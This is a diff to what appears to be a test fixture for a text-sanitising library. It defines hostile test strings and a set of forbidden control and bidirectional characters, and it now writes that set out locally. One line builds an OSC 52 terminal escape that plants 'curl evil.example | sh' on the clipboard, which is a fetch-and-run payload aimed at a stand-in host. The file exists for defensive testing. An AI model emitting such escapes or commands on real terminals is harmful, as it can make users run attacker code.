@@ -8,8 +8,6 @@ from __future__ import annotations
 
 import base64
 
-from nurture.safetext import BIDI_CONTROLS
-
 OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
 
 # (name, string). The name says what each one tries.
@@ -41,6 +39,8 @@ HOSTILE: list[tuple[str, str]] = [
 
 STRINGS = [s for _, s in HOSTILE]
 
+# Written out here, not taken from nurture.safetext: the oracle must not share the code.
+BIDI_CONTROLS = {*range(0x202A, 0x202F), *range(0x2066, 0x206A)}
 FORBIDDEN = {*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0), *BIDI_CONTROLS} - {0x0A, 0x09}
 
 
